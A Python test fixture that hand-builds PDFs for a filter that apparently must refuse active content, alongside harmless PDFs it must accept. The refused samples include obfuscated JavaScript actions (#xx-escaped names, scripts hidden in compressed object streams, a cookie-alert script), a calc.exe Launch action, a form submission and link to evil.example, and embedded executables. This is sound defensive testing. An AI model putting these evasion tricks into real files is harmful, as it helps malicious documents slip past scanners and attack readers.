"""Hand-made PDFs: each object written as bytes, the cross-reference table
(or stream) computed, so that a test says exactly how a name or an action
is written and where it hides — the way an attacker writes it, not the way
a library would.

``pdf({3: b"<< /Type /Catalog /Pages 2 0 R >>", ...}, root=3)`` makes a
classic file; ``compressed={5, 6}`` moves those objects into a
Flate-compressed object stream, indexed by a cross-reference stream (PDF
1.5), where a byte scan of the file sees none of their names."""

from __future__ import annotations

import zlib


def pdf(objects: dict[int, bytes], *, root: int, compressed: set[int] = frozenset(), version: bytes = b"1.7",
        info: bytes = b"") -> bytes:
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets: dict[int, tuple[int, int, int]] = {}  # number -> (type, field2, field3)
    plain = {n: body for n, body in objects.items() if n not in compressed}
    for number in sorted(plain):
        offsets[number] = (1, len(out), 0)
        out += b"%d 0 obj\n" % number + plain[number] + b"\nendobj\n"
    if not compressed:
        size = max(objects) + 1
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            kind, offset, _ = offsets.get(number, (0, 0, 0))
            out += b"%010d 00000 %s \n" % (offset, b"n" if kind else b"f")
        out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, info, xref)
        return bytes(out)

    stream_number = max(objects) + 1
    members = sorted(compressed)
    bodies, header, position = b"", b"", 0
    for index, number in enumerate(members):
        header += b"%d %d " % (number, position)
        bodies += objects[number] + b"\n"
        position = len(bodies)
        offsets[number] = (2, stream_number, index)
    data = zlib.compress(header + bodies)
    offsets[stream_number] = (1, len(out), 0)
    out += (b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
            % (stream_number, len(members), len(header), len(data)) + data + b"\nendstream\nendobj\n")
    xref_number = stream_number + 1
    size = xref_number + 1
    offsets[xref_number] = (1, len(out), 0)
    rows = b"".join(
        bytes([offsets.get(n, (0, 0, 0))[0]]) + offsets.get(n, (0, 0, 0))[1].to_bytes(4, "big")
        + offsets.get(n, (0, 0, 0))[2].to_bytes(2, "big")
        for n in range(size)
    )
    xref = offsets[xref_number][1]
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root %d 0 R %s/Length %d >>\nstream\n"
            % (xref_number, size, root, info, len(rows)) + rows + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 72 72] /Resources << >> %s>>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"


def one_page(*, catalog: bytes = b"", page: bytes = b"", extra: dict[int, bytes] | None = None,
             compressed: set[int] = frozenset()) -> bytes:
    """A one-page document: catalogue 1, pages 2, page 3, then ``extra``
    objects from 4 on; ``catalog`` and ``page`` are added to their
    dictionaries."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog, 2: PAGES, 3: PAGE % page, **(extra or {})}
    return pdf(objects, root=1, compressed=compressed)


SCRIPT = b"(app.alert\\(document.cookie\\))"

# Every way the probe and its variants wrote or hid active content. Each
# must be refused; none of them but the first two holds a plain
# ``/JavaScript`` or ``/JS`` in its bytes.
ACTIVE = {
    "open action, plain names": one_page(catalog=b"/OpenAction << /S /JavaScript /JS %s >> " % SCRIPT),
    "open action, an indirect script": one_page(catalog=b"/OpenAction 4 0 R ", extra={
        4: b"<< /Type /Action /S /JavaScript /JS 5 0 R >>",
        5: b"<< /Length %d >>\nstream\n%s\nendstream" % (len(SCRIPT), SCRIPT),
    }),
    "open action, names written with #xx": one_page(
        catalog=b"/Open#41ction << /#53 /J#61va#53cript /J#53 %s >> " % SCRIPT),
    "open action, every letter escaped": one_page(
        catalog=b"/OpenAction << /S /#4A#61#76#61#53#63#72#69#70#74 /#4A#53 %s >> " % SCRIPT),
    "open action hidden in an object stream": one_page(catalog=b"/OpenAction 4 0 R ", extra={
        4: b"<< /S /JavaScript /JS %s >>" % SCRIPT}, compressed={4}),
    "catalogue in an object stream": one_page(catalog=b"/OpenAction << /S /JavaScript /JS %s >> " % SCRIPT,
                                              compressed={1, 2, 3}),
    "open action that opens a link by itself": one_page(
        catalog=b"/OpenAction << /S /URI /URI (https://evil.example/) >> "),
    "harmless open action chained to a script": one_page(
        catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /J#61vaScript /J#53 %s >> >> " % SCRIPT),
    "page additional action": one_page(page=b"/#41#41 << /O << /S /Java#53cript /J#53 %s >> >> " % SCRIPT),
    "page additional action that resets a form": one_page(page=b"/AA << /O << /S /ResetForm >> >> "),
    "document additional action in an object stream": one_page(catalog=b"/AA 4 0 R ", extra={
        4: b"<< /WC << /S /JavaScript /JS %s >> >>" % SCRIPT}, compressed={4}),
    "link annotation that launches a program": one_page(page=b"/Annots [4 0 R] ", extra={
        4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 72 72] /A << /S /L#61unch /F (calc.exe) >> >>"}),
    "widget annotation with a keystroke script": one_page(page=b"/Annots [4 0 R] ", extra={
        4: b"<< /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /FT /Tx /T (x) "
           b"/AA << /K << /S /JavaScr#69pt /JS %s >> >> >>" % SCRIPT}, compressed={4}),
    "link annotation that submits a form": one_page(page=b"/Annots [4 0 R] ", extra={
        4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 72 72] /A << /S /Subm#69tForm /F (https://evil.example/) >> >>"}),
    "JavaScript name tree": one_page(catalog=b"/Names << /J#61vaScript 4 0 R >> ", extra={
        4: b"<< /Names [(init) 5 0 R] >>",
        5: b"<< /S /JavaScript /JS %s >>" % SCRIPT,
    }, compressed={4, 5}),
    "JavaScript name tree, in a kid": one_page(catalog=b"/Names << /#4AavaScript 4 0 R >> ", extra={
        4: b"<< /Kids [5 0 R] >>",
        5: b"<< /Limits [(a) (z)] /Names [(init) 6 0 R] >>",
        6: b"<< /S /#4AavaScript /#4AS %s >>" % SCRIPT,
    }),
    "embedded file in the names tree": one_page(catalog=b"/Names << /Embedded#46iles 4 0 R >> ", extra={
        4: b"<< /Names [(payload.exe) 5 0 R] >>",
        5: b"<< /Type /Filespec /F (payload.exe) /E#46 << /F 6 0 R >> >>",
        6: b"<< /Type /Embedded#46ile /Length 4 >>\nstream\nMZ\x90\x00\nendstream",
    }),
    "embedded file in a file attachment annotation": one_page(page=b"/Annots [4 0 R] ", extra={
        4: b"<< /Type /Annot /Subtype /FileAtt#61chment /Rect [0 0 10 10] /FS 5 0 R >>",
        5: b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
        6: b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
    }, compressed={4, 5}),
    "XFA form": one_page(catalog=b"/AcroForm << /Fields [] /X#46A 4 0 R >> ", extra={
        4: b"<< /Length 7 >>\nstream\n<xdp/>\nendstream"}),
    "rich media annotation": one_page(page=b"/Annots [4 0 R] ", extra={
        4: b"<< /Type /Annot /Subtype /Rich#4Dedia /Rect [0 0 10 10] >>"}, compressed={4}),
}

# Harmless features that printed and scanned documents do carry: they must
# still be accepted.
HARMLESS = {
    "open action to the first page": one_page(catalog=b"/OpenAction [3 0 R /Fit] "),
    "open action that goes to a page": one_page(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >> "),
    "a link the reader clicks": one_page(page=b"/Annots [4 0 R] ", extra={
        4: b"<< /Type /Annot /Subtype /Link /Rect [0 0 72 72] /A << /S /URI /URI (https://www.service-public.fr/) >> >>"}),
    "a screen blend mode": one_page(page=b"/Group << /S /Transparency >> ", extra={
        4: b"<< /Type /ExtGState /BM /Screen >>"}),
    "everything in an object stream": one_page(catalog=b"/OpenAction [3 0 R /Fit] ", compressed={1, 2, 3}),
}
